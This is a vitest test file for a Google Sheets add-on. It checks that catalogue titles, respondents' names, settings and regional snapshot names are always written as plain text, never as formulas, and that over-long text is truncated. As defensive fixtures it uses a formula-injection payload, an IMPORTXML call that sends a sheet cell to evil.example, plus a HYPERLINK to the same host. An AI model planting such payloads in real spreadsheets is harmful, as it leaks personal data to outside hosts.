// A person's or the region's text never becomes a formula in the methodist's sheets (setValues reads «=…» as one),
// and a text longer than a cell holds is cut rather than failing the write.
import { describe, expect, test } from "vitest";
import { CELL_TEXT_LIMIT } from "../../shared/text/plainText.ts";
import { sampleSheets } from "../helpers/sampleBook.ts";
import { builtAddon, loadAddon, type AddonEnv } from "./addon.ts";
import { consolidatedBody, MONTH, REGION_KEY, REGION_URL, regionReport } from "./regionFixture.ts";
import { SETTINGS_FORM } from "./settings.ts";
import { column } from "./sheetView.ts";

const ATTACK = '=IMPORTXML("https://evil.example/?"&Педагоги!B2; "//a")';

/** Every formula in every sheet of the file, as «sheet!row:column = formula». */
const formulas = (env: AddonEnv) =>
  env.ss.sheets.flatMap((sheet) => [...sheet.grid.formulas].map(([at, f]) => `${sheet.name}!${at} = ${f}`));

describe("a normal cell reads written text as typed", () => {
  test("«001» → 1, «1,5» → 1.5, «50%» → 0.5, «TRUE» → true, «2026-09-01» and «01.09.2026» → dates, «+7 дней» → a formula; an apostrophe or a plain-text cell keeps the text", async () => {
    const env = loadAddon(await builtAddon(), [{ name: "Лист1", rows: [] }]);
    const typed = ["001", "1,5", "50%", "TRUE", "2026-09-01", "01.09.2026", "+7 дней", "текст"];
    const read = env.evaluate(`(() => {
      const sheet = SpreadsheetApp.getActive().getSheets()[0];
      const typed = ${JSON.stringify(typed)};
      sheet.getRange(1, 1, 1, typed.length).setValues([typed]);
      sheet.getRange(2, 1, 1, typed.length).setValues([typed.map((t) => "'" + t)]);
      sheet.getRange(3, 1, 1, typed.length).setNumberFormat("@").setValues([typed]);
      return JSON.stringify(sheet.getRange(1, 1, 3, typed.length).getValues());
    })()`) as string;
    const [asTyped, quoted, plain] = JSON.parse(read) as unknown[][];
    expect(asTyped!.slice(0, 4)).toEqual([1, 1.5, 0.5, true]);
    expect(asTyped!.slice(4, 6).map((d) => String(d).slice(0, 10))).toEqual(["2026-08-31", "2026-08-31"]); // Moscow midnight in UTC
    expect([asTyped![6], asTyped![7]]).toEqual(["", "текст"]);
    expect(formulas(env)).toEqual(["Лист1!1:7 = +7 дней"]);
    expect(quoted).toEqual(typed);
    expect(plain).toEqual(typed);
  });
});

describe("texts stay texts", () => {
  test("a catalogue title, a hand-edited route, the municipality's name: every writer keeps them as text", async () => {
    const sheets = sampleSheets();
    sheets.push({
      name: "Каталог",
      rows: [
        ["Код", "Название", "Тип", "Группы компетенций", "Часы", "Длительность, недель"],
        ["001", ATTACK, "мероприятие", "цифровые, предметные", 6, 2],
        ["002", "+7 дней практики", "ДПП", "цифровые, предметные", 36, 4],
      ],
    });
    const env = loadAddon(await builtAddon(), sheets);
    env.call("saveSettings", { ...SETTINGS_FORM, municipalityName: '=HYPERLINK("https://evil.example")' });
    env.call("runAction", "prepare");
    env.call("runAction", "routes");
    const iom = env.ss.sheet("ИОМ");
    expect(column(iom, "Мероприятие")).toEqual(expect.arrayContaining([ATTACK, "+7 дней практики"]));
    expect(formulas(env)).toEqual([]);
    iom.grid.setValue(3, 8, "-снят по просьбе педагога"); // a methodist's note, kept on regeneration
    // Notes Sheets would read as a percent, a date or a boolean if written back without the apostrophe.
    iom.grid.setValue(4, 8, "50%");
    iom.grid.setValue(5, 8, "2026-09-01");
    iom.grid.setValue(6, 8, "TRUE");
    env.call("runAction", "routes", { regenerate: true });
    env.call("runAction", "kpis");
    env.call("runAction", "check");

    expect(formulas(env)).toEqual([]);
    expect(column(iom, "Мероприятие")).toEqual(
      expect.arrayContaining(["+7 дней практики", "-снят по просьбе педагога", "50%", "2026-09-01", "TRUE"]),
    );
    expect(column(iom, "Код")).toEqual(expect.arrayContaining(["001", "002"]));
    expect(env.ss.sheet("Настройки").dump()).toContainEqual([
      "Муниципалитет",
      '=HYPERLINK("https://evil.example")',
    ]);
    expect(env.ss.sheet("Настройки").dump()).toContainEqual(["Дата отчёта", "2026-11-30"]);
  });

  test("a respondent's text quoted in «Проверка» and a form answer stay text", async () => {
    const sheets = sampleSheets();
    sheets[0]!.rows[1]![2] = ATTACK; // «ФИО»
    const env = loadAddon(await builtAddon(), sheets);
    env.call("runAction", "check");
    expect(formulas(env)).toEqual([]);
    expect(column(env.ss.sheet("Реестр ИОМ"), "Проверка")[0]).toContain("«=IMPORTXML(");
  });

  test("names in the region's snapshot stay text; a name longer than a cell holds is cut with «…»", async () => {
    const report = regionReport(3);
    const body = JSON.parse(consolidatedBody(report)) as { report: { municipalities: { name: string }[] } };
    body.report.municipalities[0]!.name = ATTACK;
    body.report.municipalities[1]!.name = "Ъ".repeat(CELL_TEXT_LIMIT + 10);
    const env = loadAddon(await builtAddon());
    env.call("saveRegionSettings", { url: REGION_URL, key: REGION_KEY });
    env.fetch = () => ({ code: 200, body: JSON.stringify(body) });
    env.call("importRegion", MONTH);
    const values = env.ss.sheet(`Свод ${MONTH}`).dump().flat();
    expect(formulas(env)).toEqual([]);
    expect(values).toContain(ATTACK);
    const long = values.find((v) => typeof v === "string" && v.startsWith("ЪЪЪ")) as string;
    expect(long.length).toBeLessThanOrEqual(CELL_TEXT_LIMIT);
    expect(long.endsWith("…")).toBe(true);
  });
});
